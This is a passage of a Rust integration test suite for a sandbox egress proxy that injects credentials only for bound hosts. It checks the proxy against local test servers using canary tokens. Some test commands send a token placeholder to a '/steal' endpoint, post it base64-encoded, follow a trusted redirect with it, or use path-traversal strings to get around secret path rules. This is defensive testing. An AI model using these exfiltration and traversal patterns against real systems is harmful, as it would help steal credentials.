//! Credentials that never enter the sandbox (issue 38), through the real daemon: `[secrets.NAME]`
//! in the operator's config, `brainloop grant CLIENT SECRET NAME`, a placeholder in the command's
//! environment, the value injected by the egress proxy toward the hosts it belongs to only.
//! Upstreams are small servers of this test on 127.0.0.1 (plain HTTP, and HTTPS with a CA the test
//! makes); nothing leaves the machine. Git (`git push`, smart HTTP through git's own
//! `git-http-backend`) and pip (a PEP 503 index) run against HTTPS servers of this test that
//! require the token. The canary value is looked for in every file of the data
//! dir and in the worker's log.

mod common;

use common::{cli_ok, job, past, settled, vid, Env};
use serde_json::{json, Value};
use std::io::{Read, Write};
use std::net::TcpListener;
use std::path::Path;
use std::sync::{Arc, Mutex};

const CANARY: &str = "canary-ghp-5f0c1e2d9a8b7c6d";
const CANARY2: &str = "canary-apikey-0a1b2c3d4e5f";

/// What an upstream does with a request (by path).
fn answer(head: &str, other_port: u16) -> Vec<u8> {
    let path = head.split_whitespace().nth(1).unwrap_or("/").to_string();
    if path.starts_with("/echo") || path.starts_with("/api/echo") {
        // A server that reflects the request's headers (error pages, debug endpoints do).
        let body = head.to_string();
        return format!(
            "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
            body.len()
        )
        .into_bytes();
    }
    if path.starts_with("/redirect") {
        return format!(
            "HTTP/1.1 302 Found\r\nLocation: http://127.0.0.1:{other_port}/landed\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
        )
        .into_bytes();
    }
    b"HTTP/1.1 200 OK\r\nContent-Length: 9\r\nConnection: close\r\n\r\nupstream\n".to_vec()
}

/// Writes the answer to `head`: [`answer`]'s, or a `chunked` body streamed in pieces, each
/// flushed and a moment apart (so the proxy reads them apart): `/chunked/K` sends `v=VALUE;`
/// split after K bytes of the value; `/basic/echo-chunked` reflects the request head in 64-byte
/// chunks.
fn respond<S: Write>(s: &mut S, head: &str, other_port: u16) {
    let path = head.split_whitespace().nth(1).unwrap_or("/").to_string();
    let body = if let Some(k) = path.strip_prefix("/chunked/") {
        let k: usize = k.parse().unwrap_or(0).min(CANARY.len());
        let (a, b) = CANARY.split_at(k);
        vec![format!("v={a}").into_bytes(), format!("{b};").into_bytes()]
    } else if path.starts_with("/basic/echo-chunked") {
        head.as_bytes().chunks(64).map(|c| c.to_vec()).collect()
    } else {
        let _ = s.write_all(&answer(head, other_port));
        return;
    };
    let _ =
        s.write_all(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n");
    for piece in body.iter().filter(|p| !p.is_empty()) {
        let _ = s.write_all(format!("{:x}\r\n", piece.len()).as_bytes());
        let _ = s.write_all(piece);
        let _ = s.write_all(b"\r\n");
        let _ = s.flush();
        std::thread::sleep(std::time::Duration::from_millis(5));
    }
    let _ = s.write_all(b"0\r\n\r\n");
}

/// A tiny HTTP/1.1 upstream on 127.0.0.1 that keeps every request head it received.
struct Upstream {
    port: u16,
    heads: Arc<Mutex<Vec<String>>>,
}

impl Upstream {
    fn start(other_port: Arc<Mutex<u16>>) -> Upstream {
        let l = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = l.local_addr().unwrap().port();
        let heads = Arc::new(Mutex::new(Vec::new()));
        let h = heads.clone();
        std::thread::spawn(move || {
            for s in l.incoming() {
                let Ok(mut s) = s else { continue };
                let h = h.clone();
                let other = *other_port.lock().unwrap();
                std::thread::spawn(move || {
                    let head = read_head(&mut s);
                    h.lock().unwrap().push(head.clone());
                    respond(&mut s, &head, other);
                });
            }
        });
        Upstream { port, heads }
    }

    fn heads(&self) -> Vec<String> {
        self.heads.lock().unwrap().clone()
    }
}

fn read_head<S: Read>(s: &mut S) -> String {
    let mut buf = Vec::new();
    let mut b = [0u8; 1024];
    while !buf.windows(4).any(|w| w == b"\r\n\r\n") {
        match s.read(&mut b) {
            Ok(0) | Err(_) => break,
            Ok(n) => buf.extend_from_slice(&b[..n]),
        }
    }
    String::from_utf8_lossy(&buf).into_owned()
}

struct Setup {
    env: Env,
    _d: common::Daemon,
    bound: Upstream,
    other: Upstream,
}

fn setup(extra_config: &str, extra_env: &[(&str, &str)]) -> Setup {
    common::require_sandbox();
    let env = Env::new();
    let other_port = Arc::new(Mutex::new(0));
    let bound = Upstream::start(other_port.clone());
    let other = Upstream::start(Arc::new(Mutex::new(0)));
    *other_port.lock().unwrap() = other.port;
    let tok = env.root.path().join("gh-token");
    std::fs::write(&tok, format!("{CANARY}\n")).unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&tok, std::fs::Permissions::from_mode(0o600)).unwrap();
    let config = format!(
        "[secrets.GH_TOKEN]\nfile = {tok:?}\nhosts = [\"127.0.0.1:{b}\"]\n\n\
         [secrets.API_KEY]\nenv = \"BL_TEST_API_KEY\"\nhosts = [\"127.0.0.1:{b}\"]\nheader = \"X-Api-Key: {{value}}\"\npaths = [\"/api/\"]\n\n{}",
        extra_config.replace("@BOUND@", &bound.port.to_string()),
        b = bound.port
    );
    let path = env.root.path().join("brainloop.toml");
    std::fs::write(&path, config).unwrap();
    let mut vars = vec![
        ("BRAINLOOP_CONFIG", path.to_str().unwrap()),
        ("BL_TEST_API_KEY", CANARY2),
    ];
    vars.extend_from_slice(extra_env);
    let d = env.start(&vars);
    for p in [bound.port, other.port] {
        cli_ok(
            &env,
            &["grant", "local", "NETWORK", &format!("127.0.0.1:{p}")],
        );
    }
    cli_ok(&env, &["grant", "local", "SECRET", "GH_TOKEN"]);
    cli_ok(&env, &["grant", "local", "SECRET", "API_KEY"]);
    Setup {
        env,
        _d: d,
        bound,
        other,
    }
}

/// Submits `cmd` for `client`, approving what is asked up front; its final state.
fn submit(env: &Env, client: &str, cmd: &str) -> (i64, String, Value, String) {
    let (id, st, v, e, _) = submit_asked(env, client, cmd);
    (id, st, v, e)
}

/// [`submit`], with what was asked up front (the pending result and `show` of it) if anything.
fn submit_asked(
    env: &Env,
    client: &str,
    cmd: &str,
) -> (i64, String, Value, String, Option<(Value, String)>) {
    let id = job(env, client, "execute_bash", &json!({ "command": cmd }));
    let (st, v, e) = settled(env, id);
    if st == "pending_validation" && v["egress_refused"].is_null() {
        let old = vid(&v);
        let shown = cli_ok(env, &["show", &old]);
        cli_ok(env, &["approve", &old]);
        let (st, v2, e) = past(env, id, &old);
        return (id, st, v2, e, Some((v, shown)));
    }
    (id, st, v, e, None)
}

/// Every file under `dir` (databases, their WAL, logs…) that holds `needle`.
fn files_holding(dir: &Path, needle: &[u8]) -> Vec<String> {
    let mut hits = Vec::new();
    let Ok(rd) = std::fs::read_dir(dir) else {
        return hits;
    };
    for e in rd.flatten() {
        let p = e.path();
        if p.is_dir() {
            hits.extend(files_holding(&p, needle));
        } else if let Ok(b) = std::fs::read(&p) {
            if b.windows(needle.len()).any(|w| w == needle) {
                hits.push(p.display().to_string());
            }
        }
    }
    hits
}

fn assert_no_canary(env: &Env) {
    for c in [CANARY, CANARY2] {
        let hits = files_holding(&env.data, c.as_bytes());
        assert!(
            hits.is_empty(),
            "the value of a secret is stored in {hits:?}"
        );
        // The worker's log (and every other file the test root holds but the token file).
        let logs: Vec<String> = files_holding(env.root.path(), c.as_bytes())
            .into_iter()
            .filter(|p| !p.ends_with("gh-token"))
            .collect();
        assert!(logs.is_empty(), "the value of a secret is in {logs:?}");
    }
}

fn egress(v: &Value) -> Vec<(String, String, Option<String>)> {
    v["egress"]
        .as_array()
        .into_iter()
        .flatten()
        .map(|c| {
            (
                format!("{}:{}", c["host"].as_str().unwrap_or(""), c["port"]),
                c["outcome"].as_str().unwrap_or("").to_string(),
                c["reason"].as_str().map(String::from),
            )
        })
        .collect()
}

#[test]
fn the_upstream_gets_the_value_the_command_only_a_placeholder_and_another_host_a_refusal() {
    let s = setup("", &[]);
    let (env, b, o) = (&s.env, s.bound.port, s.other.port);
    // The bound host: the placeholder the command put in a header becomes the value; the
    // header-mode secret is added for its path.
    let cmd = format!(
        "printenv GH_TOKEN; printenv API_KEY; curl -sS -m 20 -H \"Authorization: Bearer $GH_TOKEN\" http://127.0.0.1:{b}/api/x"
    );
    let (id, st, v, e, asked) = submit_asked(env, "local", &cmd);
    assert_eq!(st, "succeeded", "{e} {v}");
    // The human was told which secrets the command would use, and where each goes.
    let (pending, shown) = asked.expect("a network command is asked about up front");
    let line = format!("uses secrets API_KEY → 127.0.0.1:{b}; GH_TOKEN → 127.0.0.1:{b}");
    assert!(shown.contains(&line), "{shown}");
    assert_eq!(
        pending["secrets"],
        json!([{"name": "API_KEY", "hosts": [format!("127.0.0.1:{b}")]},
               {"name": "GH_TOKEN", "hosts": [format!("127.0.0.1:{b}")]}]),
        "{pending}"
    );
    let out = v["stdout"].as_str().unwrap().to_string();
    let lines: Vec<&str> = out.lines().collect();
    assert!(
        lines[0].starts_with("BLSECRET_") && lines[0].len() == 41,
        "{out}"
    );
    assert!(
        lines[1].starts_with("BLSECRET_") && lines[1] != lines[0],
        "{out}"
    );
    assert_eq!(lines[2], "upstream", "{out}");
    let heads = s.bound.heads();
    assert_eq!(heads.len(), 1, "{heads:?}");
    assert!(
        heads[0].contains(&format!("Authorization: Bearer {CANARY}\r\n")),
        "{heads:?}"
    );
    assert!(
        heads[0].contains(&format!("X-Api-Key: {CANARY2}\r\n")),
        "{heads:?}"
    );
    assert!(!heads[0].contains("BLSECRET_"), "{heads:?}");
    let rec = egress(&v);
    assert_eq!(rec[0].1, "allowed", "{rec:?}");
    assert_eq!(
        rec[0].2.as_deref(),
        Some("carried secret API_KEY, GH_TOKEN"),
        "{rec:?}"
    );
    // Another allowed host: the placeholder is refused there and recorded as an exfiltration
    // attempt; nothing reaches that server.
    let cmd =
        format!("curl -sS -m 20 -H \"Authorization: Bearer $GH_TOKEN\" http://127.0.0.1:{o}/steal");
    let (_, st, v, e) = submit(env, "local", &cmd);
    assert_eq!(st, "succeeded", "{e} {v}");
    assert!(
        v["stdout"]
            .as_str()
            .unwrap()
            .contains("exfiltration attempt"),
        "{v}"
    );
    assert!(s.other.heads().is_empty(), "{:?}", s.other.heads());
    let rec = egress(&v);
    assert_eq!(
        (rec[0].0.as_str(), rec[0].1.as_str()),
        (format!("127.0.0.1:{o}").as_str(), "exfiltration"),
        "{rec:?}"
    );
    let rows: i64 = env
        .db("command_security.db")
        .query_row(
            "SELECT count(*) FROM egress_connections WHERE outcome = 'refused' AND port = ?1 AND reason LIKE '%exfiltration attempt%'",
            [o],
            |r| r.get(0),
        )
        .unwrap();
    assert_eq!(rows, 1);
    // The same in the body, base64'd: refused too.
    let cmd = format!(
        "curl -sS -m 20 --data \"t=$(printf %s \"$GH_TOKEN\" | base64)\" http://127.0.0.1:{o}/b64"
    );
    let (_, st, v, e) = submit(env, "local", &cmd);
    assert_eq!(st, "succeeded", "{e} {v}");
    assert!(egress(&v).iter().any(|c| c.1 == "exfiltration"), "{v}");
    assert!(s.other.heads().is_empty(), "{:?}", s.other.heads());
    // A request to the other host without the placeholder goes through untouched.
    let (_, st, v, _) = submit(
        env,
        "local",
        &format!("curl -sS -m 20 http://127.0.0.1:{o}/plain"),
    );
    assert_eq!(
        (st.as_str(), v["stdout"].as_str()),
        ("succeeded", Some("upstream\n")),
        "{v}"
    );
    assert!(!s.other.heads()[0].contains(CANARY));
    // A bound host that reflects the headers: the value is masked before the command sees it.
    let cmd =
        format!("curl -sS -m 20 -H \"Authorization: Bearer $GH_TOKEN\" http://127.0.0.1:{b}/echo");
    let (_, st, v, e) = submit(env, "local", &cmd);
    assert_eq!(st, "succeeded", "{e} {v}");
    let out = v["stdout"].as_str().unwrap();
    // The whole header value the proxy sent is one form of the value: masked whole.
    assert!(out.contains("Authorization: [masked]\r\n"), "{out}");
    assert!(!out.contains(CANARY) && !out.contains("****"), "{out}");
    // Split, printed, encoded: the command learns only pieces of the placeholder (the bound
    // host gets them unreplaced: the value is put in only for the whole placeholder).
    let cmd = format!(
        "printf '%s\\n' \"${{GH_TOKEN:0:20}}\" | base64; curl -sS -m 20 -H \"X-A: ${{GH_TOKEN:0:20}}\" -H \"X-B: ${{GH_TOKEN:20}}\" http://127.0.0.1:{b}/echo-split"
    );
    let (_, st, v, e) = submit(env, "local", &cmd);
    assert_eq!(st, "succeeded", "{e} {v}");
    let out = v["stdout"].as_str().unwrap();
    assert!(
        out.contains("X-A: BLSECRET_") && !out.contains(CANARY),
        "{out}"
    );
    let last = s.bound.heads().last().cloned().unwrap();
    assert!(
        last.contains("X-A: BLSECRET_") && !last.contains(CANARY),
        "{last}"
    );
    // A redirect from the bound host to another host (the proxy never follows redirects):
    // curl -L drops the header toward the other host, which gets neither value nor placeholder;
    // with --location-trusted it sends the header there — only the placeholder, refused.
    let cmd = format!(
        "curl -sS -m 20 -L -H \"Authorization: Bearer $GH_TOKEN\" http://127.0.0.1:{b}/redirect"
    );
    let (_, st, v, e) = submit(env, "local", &cmd);
    assert_eq!(
        (st.as_str(), v["stdout"].as_str()),
        ("succeeded", Some("upstream\n")),
        "{e} {v}"
    );
    let landed: Vec<String> = s
        .other
        .heads()
        .into_iter()
        .filter(|h| h.contains("/landed"))
        .collect();
    assert_eq!(landed.len(), 1, "{landed:?}");
    assert!(
        !landed[0].contains(CANARY) && !landed[0].contains("BLSECRET_"),
        "{landed:?}"
    );
    let cmd = format!(
        "curl -sS -m 20 --location-trusted -H \"Authorization: Bearer $GH_TOKEN\" http://127.0.0.1:{b}/redirect"
    );
    let (_, st, v, e) = submit(env, "local", &cmd);
    assert_eq!(st, "succeeded", "{e} {v}");
    assert!(egress(&v).iter().any(|c| c.1 == "exfiltration"), "{v}");
    assert_eq!(
        s.other
            .heads()
            .iter()
            .filter(|h| h.contains("/landed"))
            .count(),
        1,
        "the trusted follow-up never reached the other host: {:?}",
        s.other.heads()
    );
    let shown = cli_ok(env, &["show", &id.to_string()]);
    assert!(!shown.contains(CANARY), "{shown}");
    assert_no_canary(env);
}

const CANARY3: &str = "canary-basic-9e8d7c6b5a4f";

/// Issue 49: a bound host's echo never hands the command the value, whatever the response's
/// framing and in every form the proxy itself sent — the value split across chunks at every
/// offset (each chunk a read of its own), the `basic_user` credential's Base64 and a `header`
/// template's rendered value echoed in 64-byte chunks —, never as one `*` per byte (its length),
/// and a compression the command asks for never reaches the bound host.
#[test]
fn a_bound_hosts_echo_is_masked_in_every_form_the_proxy_sent_whatever_the_framing() {
    let s = setup(
        "[secrets.BASIC_TOK]\nenv = \"BL_TEST_BASIC\"\nhosts = [\"127.0.0.1:@BOUND@\"]\nbasic_user = \"x-access-token\"\npaths = [\"/basic/\"]\n",
        &[("BL_TEST_BASIC", CANARY3)],
    );
    let (env, b) = (&s.env, s.bound.port);
    cli_ok(env, &["grant", "local", "SECRET", "BASIC_TOK"]);
    // The value split after 0, 1, … all of its bytes, in two chunks the proxy reads apart.
    let n = CANARY.len();
    let cmd = format!(
        "for k in $(seq 0 {n}); do curl -sS -m 20 -H \"Authorization: Bearer $GH_TOKEN\" http://127.0.0.1:{b}/chunked/$k; echo; done"
    );
    let (_, st, v, e) = submit(env, "local", &cmd);
    assert_eq!(st, "succeeded", "{e} {v}");
    let out = v["stdout"].as_str().unwrap();
    let lines: Vec<&str> = out.lines().collect();
    assert_eq!(lines.len(), n + 1, "{out}");
    for (k, l) in lines.iter().enumerate() {
        assert_eq!(*l, "v=[masked];", "split after {k} bytes: {out}");
    }
    // The proxy's own Basic credential (basic_user) and the rendered X-Api-Key header, echoed
    // in 64-byte chunks, asked compressed.
    let cmd = format!(
        "curl -sS -m 20 --compressed http://127.0.0.1:{b}/basic/echo-chunked; curl -sS -m 20 --compressed -H 'Accept-Encoding: gzip' http://127.0.0.1:{b}/api/echo"
    );
    let (_, st, v, e) = submit(env, "local", &cmd);
    assert_eq!(st, "succeeded", "{e} {v}");
    let out = v["stdout"].as_str().unwrap();
    use base64::Engine as _;
    let b64 = base64::engine::general_purpose::STANDARD.encode(format!("x-access-token:{CANARY3}"));
    for leak in [CANARY, CANARY2, CANARY3, b64.as_str(), "****"] {
        assert!(!out.contains(leak), "{leak} reached the command: {out}");
    }
    assert!(out.contains("Authorization: [masked]"), "{out}");
    assert!(out.contains("X-Api-Key: [masked]"), "{out}");
    // What the bound host was asked: the value, and no compression.
    let heads = s.bound.heads();
    let basic = heads
        .iter()
        .find(|h| h.contains("/basic/echo-chunked"))
        .unwrap();
    assert!(
        basic.contains(&format!("Authorization: Basic {b64}")),
        "{basic}"
    );
    for h in heads.iter().filter(|h| h.contains("echo")) {
        let enc: Vec<&str> = h
            .lines()
            .filter(|l| l.to_ascii_lowercase().starts_with("accept-encoding"))
            .collect();
        assert_eq!(enc, ["Accept-Encoding: identity"], "{h}");
    }
    assert_no_canary(env);
}

/// Issue 49: a secret's `paths` are judged on the path as servers read it: dot-segments take a
/// request out of `/api/` (no value sent), and a path whose readings disagree (percent-encoded
/// dots, `..;`, backslashes) gets no secret at all — refused 403 and recorded.
#[test]
fn a_secrets_paths_are_judged_on_the_normalised_path_and_an_ambiguous_one_is_refused() {
    let s = setup("", &[]);
    let (env, b) = (&s.env, s.bound.port);
    let cmd = format!(
        "for p in api/ok api/../x 'api/%2e%2e/x' 'api/..;/x' 'api/..%2fx' 'api/..\\x'; do curl -sS -m 20 --path-as-is \"http://127.0.0.1:{b}/$p\"; echo; done"
    );
    let (id, st, v, e) = submit(env, "local", &cmd);
    assert_eq!(st, "succeeded", "{e} {v}");
    let out = v["stdout"].as_str().unwrap();
    let heads = s.bound.heads();
    // /api/ok carries the value; /api/../x reaches the upstream without it.
    let ok = heads.iter().find(|h| h.contains("GET /api/ok ")).unwrap();
    assert!(ok.contains(&format!("X-Api-Key: {CANARY2}")), "{ok}");
    let out_of = heads
        .iter()
        .find(|h| h.contains("GET /api/../x "))
        .unwrap_or_else(|| panic!("{heads:?}"));
    assert!(!out_of.contains(CANARY2), "{out_of}");
    // The ambiguous ones never reach it, and are refused, recorded.
    assert_eq!(heads.len(), 2, "{heads:?}");
    assert_eq!(
        out.matches("cannot be judged unambiguously").count(),
        4,
        "{out}"
    );
    let rows: i64 = env
        .db("command_security.db")
        .query_row(
            "SELECT count(*) FROM egress_connections WHERE job_id = ?1 AND outcome = 'refused' AND reason LIKE '%secret API_KEY is bound to some paths only%'",
            [id],
            |r| r.get(0),
        )
        .unwrap();
    assert_eq!(rows, 4, "{out}");
    assert_no_canary(env);
}

#[test]
fn an_ungranted_client_gets_no_placeholder_and_the_upstream_no_value() {
    let s = setup("", &[]);
    let (env, b) = (&s.env, s.bound.port);
    cli_ok(env, &["grant", "bob", "SYSTEM_COMMAND", "*"]);
    cli_ok(env, &["grant", "bob", "NETWORK", &format!("127.0.0.1:{b}")]);
    let cmd = format!(
        "printenv GH_TOKEN || echo no-placeholder; env | grep -c BLSECRET_ || true; printenv SSL_CERT_FILE || echo no-run-ca; curl -sS -m 20 -H \"Authorization: Bearer $GH_TOKEN\" http://127.0.0.1:{b}/bob"
    );
    let (_, st, v, e, asked) = submit_asked(env, "bob", &cmd);
    assert_eq!(st, "succeeded", "{e} {v}");
    // A run without secrets: no placeholder, no CA (no TLS cost), nothing shown about secrets.
    assert_eq!(
        v["stdout"], "no-placeholder\n0\nno-run-ca\nupstream\n",
        "{v}"
    );
    if let Some((pending, shown)) = asked {
        assert!(
            pending.get("secrets").is_none() && !shown.contains("uses secret"),
            "{shown}"
        );
    }
    let heads = s.bound.heads();
    assert_eq!(heads.len(), 1, "{heads:?}");
    assert!(
        !heads[0].contains(CANARY) && !heads[0].contains(CANARY2),
        "{heads:?}"
    );
    // A job cannot ask for a secret: only the operator grants one.
    let (_, err_out, _) = {
        let (st, o, e) = env.cli(&["grant", "bob", "SECRET", "gh-token"]);
        assert!(!st.success());
        (st, o, e)
    };
    let _ = err_out;
    assert_no_canary(env);
}

/// A TLS upstream with its own CA (made here): the CA's PEM file, and the server's config.
fn tls_server(dir: &Path) -> (std::path::PathBuf, Arc<rustls::ServerConfig>) {
    let mut p = rcgen::CertificateParams::new(Vec::<String>::new()).unwrap();
    p.is_ca = rcgen::IsCa::Ca(rcgen::BasicConstraints::Unconstrained);
    p.distinguished_name
        .push(rcgen::DnType::CommonName, "egress_secrets test CA");
    let ca = rcgen::CertifiedIssuer::self_signed(p, rcgen::KeyPair::generate().unwrap()).unwrap();
    let mut lp = rcgen::CertificateParams::new(Vec::<String>::new()).unwrap();
    lp.subject_alt_names = vec![rcgen::SanType::IpAddress("127.0.0.1".parse().unwrap())];
    let key = rcgen::KeyPair::generate().unwrap();
    let leaf = lp.signed_by(&key, &ca).unwrap();
    let pem = dir.join(format!("test-ca-{}.pem", common::now_ms()));
    std::fs::write(&pem, ca.pem()).unwrap();
    let der = rustls::pki_types::PrivateKeyDer::Pkcs8(key.serialize_der().into());
    let cfg = rustls::ServerConfig::builder_with_provider(Arc::new(
        rustls::crypto::aws_lc_rs::default_provider(),
    ))
    .with_safe_default_protocol_versions()
    .unwrap()
    .with_no_client_auth()
    .with_single_cert(vec![leaf.der().clone()], der)
    .unwrap();
    (pem, Arc::new(cfg))
}

/// An HTTPS upstream on 127.0.0.1 keeping the request heads it received.
fn tls_upstream(cfg: Arc<rustls::ServerConfig>) -> Upstream {
    let l = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = l.local_addr().unwrap().port();
    let heads = Arc::new(Mutex::new(Vec::new()));
    let h = heads.clone();
    std::thread::spawn(move || {
        for s in l.incoming() {
            let Ok(s) = s else { continue };
            let (h, cfg) = (h.clone(), cfg.clone());
            std::thread::spawn(move || {
                let conn = rustls::ServerConnection::new(cfg).unwrap();
                let mut tls = rustls::StreamOwned::new(conn, s);
                let head = read_head(&mut tls);
                if head.is_empty() {
                    return;
                }
                h.lock().unwrap().push(head.clone());
                respond(&mut tls, &head, 0);
                tls.conn.send_close_notify();
                let _ = tls.flush();
            });
        }
    });
    Upstream { port, heads }
}

#[test]
fn https_to_a_bound_host_is_terminated_with_the_run_ca_and_the_upstream_verified_against_its_own() {
    let root = tempfile::tempdir().unwrap();
    let (ca, cfg) = tls_server(root.path());
    let bound = tls_upstream(cfg.clone());
    let unbound = tls_upstream(cfg);
    let extra = format!(
        "[secrets.TLS_TOKEN]\nenv = \"BL_TEST_TLS_TOKEN\"\nhosts = [\"127.0.0.1:{}\"]\nheader = \"Authorization: Bearer {{value}}\"\nca_file = {ca:?}\n",
        bound.port
    );
    let s = setup(&extra, &[("BL_TEST_TLS_TOKEN", CANARY)]);
    let env = &s.env;
    for p in [bound.port, unbound.port] {
        cli_ok(
            env,
            &["grant", "local", "NETWORK", &format!("127.0.0.1:{p}")],
        );
    }
    cli_ok(env, &["grant", "local", "SECRET", "TLS_TOKEN"]);
    // curl verifies the proxy's certificate with the run's bundle (its CA trusted in this run
    // only); the proxy verifies the upstream against the secret's ca_file.
    let cmd = format!(
        "test -r \"$SSL_CERT_FILE\" && test \"$CURL_CA_BUNDLE\" = \"$SSL_CERT_FILE\" && test \"$PIP_CERT\" = \"$SSL_CERT_FILE\" && test -r \"$NODE_EXTRA_CA_CERTS\" && echo bundle-ok; curl -sS -m 20 https://127.0.0.1:{}/tls",
        bound.port
    );
    let (_, st, v, e) = submit(env, "local", &cmd);
    assert_eq!(st, "succeeded", "{e} {v}");
    assert_eq!(v["stdout"], "bundle-ok\nupstream\n", "{v}");
    let heads = bound.heads();
    assert_eq!(heads.len(), 1, "{heads:?}");
    assert!(heads[0].starts_with("GET /tls HTTP/1.1\r\n"), "{heads:?}");
    assert!(
        heads[0].contains(&format!("Authorization: Bearer {CANARY}\r\n")),
        "{heads:?}"
    );
    let rec = egress(&v);
    assert_eq!(rec[0].1, "allowed", "{rec:?}");
    assert_eq!(
        rec[0].2.as_deref(),
        Some("carried secret TLS_TOKEN"),
        "{rec:?}"
    );
    assert_eq!(v["egress"][0]["protocol"], "https", "{v}");
    // Another HTTPS host: tunnelled untouched (CONNECT as before, the proxy sees no request);
    // the placeholder the command sends there is only the meaningless string it is.
    let cmd = format!(
        "curl -sS -m 20 -k -H \"Authorization: Bearer $TLS_TOKEN\" https://127.0.0.1:{}/tunnel",
        unbound.port
    );
    let (_, st, v, e) = submit(env, "local", &cmd);
    assert_eq!(st, "succeeded", "{e} {v}");
    assert_eq!(v["stdout"], "upstream\n", "{v}");
    assert_eq!(v["egress"][0]["protocol"], "connect", "{v}");
    let heads = unbound.heads();
    assert_eq!(heads.len(), 1, "{heads:?}");
    assert!(
        heads[0].contains("Authorization: Bearer BLSECRET_") && !heads[0].contains(CANARY),
        "{heads:?}"
    );
    assert_no_canary(env);
}

// ---- Git and package managers against a private HTTPS server on a bound host ----

/// The value of `name` in a request head (first one, case-insensitive).
fn header(head: &str, name: &str) -> Option<String> {
    head.split("\r\n").skip(1).find_map(|l| {
        let (n, v) = l.split_once(':')?;
        n.trim()
            .eq_ignore_ascii_case(name)
            .then(|| v.trim().to_string())
    })
}

/// Reads until `buf` holds `n` bytes (false: the stream ended first).
fn fill<S: Read>(s: &mut S, buf: &mut Vec<u8>, n: usize) -> bool {
    let mut b = [0u8; 16 * 1024];
    while buf.len() < n {
        match s.read(&mut b) {
            Ok(0) | Err(_) => return false,
            Ok(k) => buf.extend_from_slice(&b[..k]),
        }
    }
    true
}

/// Reads until `buf` holds `pat`; where it ends.
fn fill_to<S: Read>(s: &mut S, buf: &mut Vec<u8>, pat: &[u8]) -> Option<usize> {
    loop {
        if let Some(i) = buf.windows(pat.len()).position(|w| w == pat) {
            return Some(i + pat.len());
        }
        let want = buf.len() + 1;
        if !fill(s, buf, want) {
            return None;
        }
    }
}

/// One HTTP/1.1 request off `s` (keep-alive: `buf` keeps what follows it): its head and its
/// body (by `Content-Length`, or `Transfer-Encoding: chunked` decoded).
fn read_request<S: Read>(s: &mut S, buf: &mut Vec<u8>) -> Option<(String, Vec<u8>)> {
    let end = fill_to(s, buf, b"\r\n\r\n")?;
    let head = String::from_utf8_lossy(&buf[..end]).into_owned();
    buf.drain(..end);
    let mut body = Vec::new();
    if header(&head, "transfer-encoding").is_some_and(|v| v.eq_ignore_ascii_case("chunked")) {
        loop {
            let line_end = fill_to(s, buf, b"\r\n")?;
            let line = String::from_utf8_lossy(&buf[..line_end - 2]).into_owned();
            buf.drain(..line_end);
            let size = usize::from_str_radix(line.split(';').next()?.trim(), 16).ok()?;
            if size == 0 {
                let t = fill_to(s, buf, b"\r\n")?; // no trailers are sent here
                buf.drain(..t);
                break;
            }
            if !fill(s, buf, size + 2) {
                return None;
            }
            body.extend_from_slice(&buf[..size]);
            buf.drain(..size + 2);
        }
    } else if let Some(n) = header(&head, "content-length").and_then(|v| v.parse().ok()) {
        if !fill(s, buf, n) {
            return None;
        }
        body.extend(buf.drain(..n));
    }
    Some((head, body))
}

/// What a private server answers to a request it let in: status, headers, body.
type Answer = (String, Vec<(String, String)>, Vec<u8>);
type Route = Arc<dyn Fn(&str, &[u8]) -> Answer + Send + Sync>;

/// A private HTTPS server on 127.0.0.1 (the test's CA): every request must carry
/// `Authorization: <auth>` (else 401 with a Basic challenge); keep-alive as HTTP/1.1 says.
struct Private {
    port: u16,
    /// Each request's head and the status it was answered with.
    seen: Arc<Mutex<Vec<(String, String)>>>,
    /// TLS connections accepted.
    conns: Arc<std::sync::atomic::AtomicUsize>,
}

impl Private {
    fn start(cfg: Arc<rustls::ServerConfig>, auth: String, route: Route) -> Private {
        Private::start_with(cfg, auth, route, true)
    }

    /// [`Private::start`]; `honour_close` false: a server that keeps the connection open after
    /// a response whatever the request said (it closes when the client does).
    fn start_with(
        cfg: Arc<rustls::ServerConfig>,
        auth: String,
        route: Route,
        honour_close: bool,
    ) -> Private {
        let l = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = l.local_addr().unwrap().port();
        let seen = Arc::new(Mutex::new(Vec::new()));
        let sn = seen.clone();
        let conns = Arc::new(std::sync::atomic::AtomicUsize::new(0));
        let cn = conns.clone();
        std::thread::spawn(move || {
            for s in l.incoming() {
                let Ok(s) = s else { continue };
                cn.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
                let (sn, cfg, auth, route) = (sn.clone(), cfg.clone(), auth.clone(), route.clone());
                std::thread::spawn(move || {
                    let conn = rustls::ServerConnection::new(cfg).unwrap();
                    let mut tls = rustls::StreamOwned::new(conn, s);
                    let mut buf = Vec::new();
                    while let Some((head, body)) = read_request(&mut tls, &mut buf) {
                        let (status, hs, b) =
                            if header(&head, "authorization").as_deref() == Some(auth.as_str()) {
                                route(&head, &body)
                            } else {
                                (
                                    "401 Unauthorized".to_string(),
                                    vec![(
                                        "WWW-Authenticate".to_string(),
                                        "Basic realm=\"private\"".to_string(),
                                    )],
                                    b"authentication required\n".to_vec(),
                                )
                            };
                        sn.lock().unwrap().push((head.clone(), status.clone()));
                        let close = honour_close
                            && header(&head, "connection")
                                .is_some_and(|v| v.eq_ignore_ascii_case("close"));
                        let mut out = format!("HTTP/1.1 {status}\r\n");
                        for (n, v) in &hs {
                            out.push_str(&format!("{n}: {v}\r\n"));
                        }
                        out.push_str(&format!("Content-Length: {}\r\n", b.len()));
                        if close {
                            out.push_str("Connection: close\r\n");
                        }
                        out.push_str("\r\n");
                        let mut bytes = out.into_bytes();
                        bytes.extend_from_slice(&b);
                        if tls.write_all(&bytes).and_then(|_| tls.flush()).is_err() || close {
                            break;
                        }
                    }
                    tls.conn.send_close_notify();
                    let _ = tls.flush();
                });
            }
        });
        Private { port, seen, conns }
    }

    fn seen(&self) -> Vec<(String, String)> {
        self.seen.lock().unwrap().clone()
    }
}

/// Git's smart HTTP: each request run through git's own `git-http-backend` as CGI, the
/// repositories under `root` (push allowed: `REMOTE_USER` is set once the token was checked).
fn git_backend(root: std::path::PathBuf) -> Route {
    let exec = std::process::Command::new("git")
        .arg("--exec-path")
        .output()
